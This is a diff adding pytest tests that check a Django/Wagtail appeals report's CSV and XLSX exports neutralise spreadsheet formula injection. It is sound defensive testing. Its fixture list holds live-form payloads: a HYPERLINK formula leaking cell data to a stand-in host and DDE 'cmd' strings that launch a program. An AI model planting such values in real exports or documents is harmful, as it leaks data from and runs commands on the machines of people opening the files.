@@ -3,6 +3,7 @@
 import csv
 import datetime
 import io
+import zipfile
 from unittest import mock
 
 import pytest
@@ -346,3 +347,60 @@ def test_the_report_is_in_the_reports_menu_only_for_those_allowed(
     assert url in client.get(reverse("wagtailadmin_home")).content.decode()
     client.force_login(staff_user(django_user_model, "editor"))
     assert url not in client.get(reverse("wagtailadmin_home")).content.decode()
+
+
+# --- The export: names a spreadsheet would run as formulas ----------------------------------------
+
+HOSTILE_NAMES = [
+    '=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.fixture
+def hostile_appeals():
+    for name in HOSTILE_NAMES:
+        appeal = AppealFactory(name=name)
+        AppealDay.objects.create(appeal=appeal, date=day(), views=10, clicks=1, signups=1)
+    AppealFactory(name="Spring appeal 2024")
+    AppealFactory(name="O'Brien's fund: 50% = half")
+
+
+def test_csv_export_neutralises_formulas_and_leaves_the_rest_alone(
+    client, reporter, hostile_appeals
+):
+    client.force_login(reporter)
+    rows = csv_rows(client.get(reverse(REPORT), {"export": "csv"}))
+    names = [row[0] for row in rows[1:]]
+    # OWASP: a leading quote makes a spreadsheet read the cell as text.
+    assert sorted(names) == sorted(
+        ["'" + name for name in HOSTILE_NAMES]
+        + ["Spring appeal 2024", "O'Brien's fund: 50% = half"]
+    )
+    by_name = {row[0]: row[1:] for row in rows[1:]}
+    assert by_name["'-2+3"][:3] == ["10", "1", "1"]
+    assert float(by_name["'-2+3"][3]) == pytest.approx(10.0)
+
+
+def test_xlsx_export_writes_names_as_text_never_as_formulas(client, reporter, hostile_appeals):
+    openpyxl = pytest.importorskip("openpyxl")
+    client.force_login(reporter)
+    response = client.get(reverse(REPORT), {"export": "xlsx"})
+    content = b"".join(response.streaming_content) if response.streaming else response.content
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
+    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
+    rows = list(sheet.iter_rows(min_row=2))
+    names = {row[0].value for row in rows}
+    assert all(row[0].data_type == "s" for row in rows)
+    # The names themselves, as typed: a text cell is never run. (XML reads a carriage return
+    # as a line feed.)
+    typed = {name.replace("\r", "\n") for name in HOSTILE_NAMES}
+    assert names == typed | {"Spring appeal 2024", "O'Brien's fund: 50% = half"}
+    numbers = {row[0].value: [cell.value for cell in row[1:4]] for row in rows}
+    assert numbers["-2+3"] == [10, 1, 1]
